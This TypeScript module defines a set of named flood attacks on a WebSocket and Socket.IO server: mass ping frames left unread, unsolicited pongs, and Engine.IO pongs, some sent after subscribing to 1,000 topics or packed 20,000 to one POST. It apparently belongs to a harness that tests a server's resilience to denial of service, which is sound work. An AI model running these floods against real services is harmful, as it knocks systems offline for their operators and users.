import { flood, repeated, type Attack } from '../attack.js';
import { attackFrame, opcodes } from '../raw-client.js';
import { pollingBody, pollingFlood } from '../requests.js';

const control = Buffer.alloc(125, 'x');
const thousandTopics = Array.from(
  { length: 10 },
  (_, k) =>
    `42["subscribe",{"topics":${JSON.stringify(Array.from({ length: 100 }, (_, n) => `t.${k}.${n}`))}}]`,
);

/** Pings and pongs of the WebSocket and of Engine.IO. */
export const heartbeats: readonly Attack[] = [
  {
    name: 'pings-unread',
    what: 'WebSocket pings of 125 bytes; the pongs are not read',
    as: ['nobody', 'user'],
    run: (context) =>
      flood(context, {
        wire: 'socketio',
        joins: context.attacker === 'user',
        chunk: repeated(2000, attackFrame(control, opcodes.ping)),
      }),
  },
  {
    name: 'pings-unread-ws',
    what: 'the same on /ws',
    as: ['user'],
    run: (context) =>
      flood(context, { wire: 'json', chunk: repeated(2000, attackFrame(control, opcodes.ping)) }),
  },
  {
    name: 'pong-frames',
    what: 'WebSocket pongs that nobody asked for',
    as: ['nobody', 'user'],
    run: (context) =>
      flood(context, {
        wire: context.attacker === 'user' ? 'json' : 'socketio',
        chunk: repeated(5000, attackFrame('1', opcodes.pong)),
        reads: true,
      }),
  },
  {
    name: 'pongs',
    what: 'Engine.IO pongs',
    as: ['nobody', 'user'],
    run: (context) =>
      flood(context, {
        wire: 'socketio',
        joins: context.attacker === 'user',
        chunk: repeated(5000, attackFrame('3')),
        reads: true,
      }),
  },
  {
    name: 'pongs-topics',
    what: 'Engine.IO pongs of a connection with 1,000 topics',
    as: ['user'],
    run: (context) =>
      flood(context, {
        wire: 'socketio',
        joins: true,
        before: thousandTopics,
        chunk: repeated(5000, attackFrame('3')),
        reads: true,
      }),
  },
  {
    name: 'pongs-topics-post',
    what: '20,000 pongs in one POST, with 1,000 topics',
    as: ['user'],
    run: (context) =>
      pollingFlood(context, { joins: true, before: thousandTopics, body: pollingBody(20_000, '3') }),
  },
  {
    name: 'pongs-topics-ws',
    what: 'WebSocket pongs on /ws with 1,000 topics',
    as: ['user'],
    run: (context) =>
      flood(context, {
        wire: 'json',
        before: thousandTopics.map((packet) => `{"type":"Subscribe","data":${packet.slice(15, -1)}}`),
        chunk: repeated(5000, attackFrame('1', opcodes.pong)),
        reads: true,
      }),
  },
];
